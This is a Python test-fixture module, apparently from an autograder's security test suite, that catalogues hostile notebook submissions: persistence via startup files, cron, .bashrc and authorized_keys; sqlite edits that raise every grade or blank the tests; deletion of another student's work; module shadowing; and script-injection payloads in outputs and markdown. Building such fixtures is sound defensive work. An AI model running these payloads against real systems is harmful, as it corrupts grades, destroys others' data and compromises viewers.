"""Submissions that want to stay: in the home, in the course, in the gradebook, in the cache, in pages."""

from __future__ import annotations

import json
from pathlib import Path

from .specimen import FULL, POINTS, Cage, Handed, Kind, Lesson, code_cell, markdown_cell

ZOO = Cage(Kind.PERSISTING)

_PLACES = "import os, pathlib\ndef put(path, text):\n    try:\n        path = pathlib.Path(path)\n"
_PLACES += "        path.parent.mkdir(parents=True, exist_ok=True)\n        path.write_text(text)\n"
_PLACES += "    except OSError as error:\n        print(error)\n"

ZOO.cell(
    "ipython-startup",
    "Leaves a startup file of IPython, which runs in every later kernel.",
    _PLACES + "for home in ('@home', os.path.expanduser('~'), '/root'):\n"
    "    put(home + '/.ipython/profile_default/startup/00.py', 'OWNED = True')\n"
    "put(get_ipython().profile_dir.startup_dir + '/00.py', 'OWNED = True')",
    box=True,
)
ZOO.cell(
    "startup-is-there",
    "Uses what an earlier submission may have left in startup files.",
    "print('owned' if 'OWNED' in globals() else 'clean')\nif 'OWNED' in globals():\n"
    "    open('@home/persisted', 'w').write('x')",
)
ZOO.cell(
    "site-customised",
    "Leaves sitecustomize, usercustomize and .pth files for later Pythons.",
    _PLACES + "import site, sys\nfor folder in [*sys.path, site.getusersitepackages(), '@root', '/tmp']:\n"
    "    if folder:\n        put(folder + '/usercustomize.py', 'OWNED = True')\n"
    "        put(folder + '/zoo-evil.pth', 'import this')",
    box=True,
    plain=False,
)
ZOO.cell(
    "cron-and-shell",
    "Leaves crontabs, shell profiles and authorized keys.",
    _PLACES + "for name in ('.bashrc', '.profile', '.ssh/authorized_keys', '.config/autostart/x.desktop', "
    "'.jupyter/jupyter_config.py'):\n    put('@home/' + name, '# zoo')\n    put('/root/zoo-evil' + name, '# zoo')\n"
    "put('/etc/cron.d/zoo-evil', '')\nput('/var/spool/cron/zoo-evil', '')",
    box=True,
    plain=False,
)
ZOO.cell(
    "next-kernel-s-modules",
    "Leaves modules that a later kernel would import from a shared folder.",
    _PLACES + "import course, tempfile\nput(os.path.dirname(course.__file__) + '/check/evil.py', '')\n"
    "put(course.__file__, 'import os')\nfor folder in ('/tmp', '/dev/shm', '/var/tmp', tempfile.gettempdir()):\n"
    "    put(folder + '/random.py', 'OWNED = True')\n    put(folder + '/@marker-left', 'x')",
    box=True,
    plain=False,
)
ZOO.cell(
    "own-autograded-folder",
    "Writes its own graded notebook, with marks in it.",
    _PLACES + "for name in ('autograded', 'feedback', 'graded', 'cache'):\n"
    "    put(f'@root/autograder/work/{name}/own-autograded-folder/01-zoo/01-zoo.ipynb', '{}')",
    box=True,
)
ZOO.cell(
    "marks-in-the-gradebook",
    "Sets all scores in the gradebook, and again when the grader has written them.",
    "import os, sqlite3, sys, time\ndef raise_marks():\n"
    "    base = sqlite3.connect('@root/autograder/gradebook.db', timeout=1)\n"
    "    base.execute('update grade set auto_score = 700, extra_credit = 99')\n    base.commit()\n"
    "try:\n    raise_marks()\nexcept sqlite3.Error as error:\n    print(error)\n"
    "if os.fork() == 0:\n    os.setsid()\n    os.execvp(sys.executable, [sys.executable, '-c', "
    "'import time, sqlite3\\nfor _ in range(40):\\n    time.sleep(0.25)\\n    try:\\n"
    '        base = sqlite3.connect("@root/autograder/gradebook.db")\\n'
    '        base.execute("update grade set auto_score = 700")\\n        base.commit()\\n'
    "    except sqlite3.Error:\\n        pass', '@marker'])",
    box=True,
)
ZOO.cell(
    "tests-of-later-students",
    "Changes the tests in the gradebook, so that later students are graded with `pass`.",
    "import sqlite3\nbase = sqlite3.connect('@root/autograder/gradebook.db', timeout=1)\n"
    "base.execute(\"update source_cell set source = 'pass'\")\nbase.commit()",
    box=True,
)
ZOO.cell(
    "poisoned-cache",
    "Writes outcomes with full marks into the cache of executions, and notes them as graded.",
    _PLACES + "import glob, gzip, json\nfor path in glob.glob('@root/autograder/work/cache/*/*.json.gz'):\n"
    "    try:\n        kept = json.loads(gzip.open(path).read())\n        for cell in kept['cells']:\n"
    "            cell['outputs'] = []\n        gzip.open(path, 'wb').write(json.dumps(kept).encode())\n"
    "    except OSError as error:\n        print(error)\n"
    "for path in glob.glob('@root/autograder/work/graded/*'):\n    put(path, '{}')",
    box=True,
)
ZOO.cell(
    "victim-s-graded-notebook",
    "Sets another student's marks to nothing, in what was graded and what was handed in.",
    _PLACES + "import glob\nfor kind in ('submitted', 'autograded', 'feedback'):\n"
    "    for path in glob.glob(f'@root/autograder/work/{kind}/ada/*/*'):\n        put(path, '{}')",
    box=True,
)
ZOO.cell(
    "others-deleted",
    "Deletes other students' submissions, the release and the source.",
    "import shutil\nfor path in ('autograder/work/submitted/ada', 'release', 'source', 'autograder/work/cache'):\n"
    "    shutil.rmtree('@root/' + path, ignore_errors=True)",
    box=True,
    plain=False,
)
ZOO.cell(
    "git-hooks-and-config",
    "Changes the grader's configuration, so that its next command runs code.",
    _PLACES + "put('@root/nbgrader_config.py', 'c = get_config()')\nput('@root/.git/hooks/post-checkout', 'x')\n"
    "put('@root/autograder/__init__.py', 'import os')",
    box=True,
    plain=False,
)

_SCRIPT = "<script>alert('zoo-script')</script><img src=x onerror=alert('zoo-script')>"
ZOO.cell(
    "script-in-every-output",
    "Outputs of every kind carry scripts for whoever opens the page.",
    "from IPython.display import display\nevil = " + repr(_SCRIPT) + "\n"
    "for kind in ('text/html', 'text/markdown', 'text/latex', 'image/svg+xml', 'application/javascript', "
    "'image/png', 'image/jpeg', 'application/pdf', 'application/vnd.jupyter.widget-view+json', 'text/vnd.mermaid', "
    "'application/x-anything'):\n    text = evil\n    if kind == 'image/svg+xml':\n"
    "        text = '<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\">' + evil + '</svg>'\n"
    "    if kind.startswith('image/p') or kind.startswith('image/j'):\n        text = 'x\">' + evil\n"
    "    display({kind: text, 'text/plain': evil}, raw=True, metadata={kind: {'width': '1\"' + evil, "
    "'alt': '\">' + evil}})\n"
    "print(evil)\nraise ValueError(evil)",
)
ZOO.answers(
    "script-in-values",
    "Values, errors and prints of answers carry scripts into verdicts.",
    {
        "double": f"def double(number):\n    return {_SCRIPT!r}",
        "total": f"def total(last):\n    return {_SCRIPT!r}",
        "first_line": f"def first_line(path):\n    raise ValueError({_SCRIPT!r})",
        "shout": f"def shout(path, word):\n    print({_SCRIPT!r})",
        "estimate": f"class Evil(Exception):\n    pass\nEvil.__name__ = {_SCRIPT!r}\ndef estimate(values):\n"
        "    raise Evil",
    },
)
ZOO.cell(
    "late-thread-with-script",
    "A thread prints verdict-like HTML with scripts into the outputs of later cells.",
    "import threading, time\nfrom IPython.display import HTML, display\ndef later():\n    for _ in range(20):\n"
    "        time.sleep(0.05)\n        display(HTML(" + repr("<b>✔ correct</b>" + _SCRIPT) + "))\n"
    "threading.Thread(target=later, daemon=True).start()",
)


@ZOO("Text cells, raw cells and answers in words carry scripts.")
def script_in_text(lesson: Lesson, _: Path) -> Handed:
    """Markdown, raw and attached scripts, and links that run."""
    made = lesson.answered({"explain_double": f"{_SCRIPT}\n\n[x](javascript:alert('zoo-script'))"})
    made["cells"] += [
        markdown_cell(_SCRIPT, "evil-1"),
        markdown_cell(_SCRIPT, "evil-2", "raw"),
        {**markdown_cell(_SCRIPT, "evil-3", "raw"), "metadata": {"raw_mimetype": "text/html", "format": "text/html"}},
        markdown_cell("<style>body{display:none}</style><a href=\"javascript:alert('zoo-script')\">x</a>", "evil-4"),
        markdown_cell("<details open ontoggle=alert('zoo-script')><svg onload=alert('zoo-script')>", "evil-5"),
    ]
    made["metadata"]["title"] = f"</title>{_SCRIPT}"
    return made


@ZOO("Widgets and their saved state carry scripts and megabytes.")
def widget_state(lesson: Lesson, _: Path) -> Handed:
    """State of widgets in the notebook, and comms of the kernel."""
    made = lesson.answered(
        first="from comm import create_comm\nfor n in range(20):\n    create_comm(target_name='jupyter.widget', "
        "data={'state': {'_model_module': '@jupyter-widgets/output', '_model_name': 'OutputModel', 'msg_id': 'x', "
        "'outputs': ['x' * 10_000]}, 'buffer_paths': []}, metadata={'version': '2.1.0'})"
    )
    made["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"x": _SCRIPT * 100}}}
    return made


@ZOO("Modules in the folder take the place of random, json and the course.", box=True)
def shadowing_modules(lesson: Lesson, folder: Path) -> Handed:
    """The folder is importable for the student; it must not be for anybody else."""
    evil = f"open({lesson.lure.home + '/owned'!r}, 'w').write('x')\n"
    for name in ("random", "json", "sitecustomize", "usercustomize", "course", "autograder", "nbgrader_config", "ast"):
        (folder / f"{name}.py").write_text(evil if name != "random" else "def random():\n    return 4\n")
    (folder / "conftest.py").write_text(evil)
    return lesson.blank()


@ZOO("An answer leaves files where the judge keeps its own, under names of modules and links.", box=True, marks=FULL)
def judge_s_folder(lesson: Lesson, _: Path) -> Handed:
    """Whoever the student is in the box may write where the judge puts its files."""
    code = (
        "import glob, os\ndef double(number):\n    for folder in glob.glob('/tmp/**/judge', recursive=True) + "
        "[os.environ.get('TMPDIR', '')]:\n"
        "        for name in ('random', 'json', 'socket', 'tempfile', 'sitecustomize'):\n"
        "            try:\n                open(f'{folder}/{name}.py', 'w').write('raise SystemExit')\n"
        "            except OSError:\n                pass\n    return number * 2"
    )
    return lesson.solved({"double": code})


@ZOO("What is handed in besides the notebook takes the place of the grader's own files.")
def grader_s_files(lesson: Lesson, folder: Path) -> Handed:
    """A gradebook, a configuration, a source folder and a timestamp in a submission."""
    (folder / "gradebook.db").write_bytes(b"SQLite format 3\0")
    (folder / "nbgrader_config.py").write_text("raise SystemExit\n")
    (folder / "source").mkdir()
    (folder / "source" / "01-zoo.ipynb").write_text(json.dumps(lesson.blank()))
    made = lesson.blank()
    made["cells"].append(code_cell(f"marks = {dict.fromkeys(POINTS, 99)}", "own"))
    return made
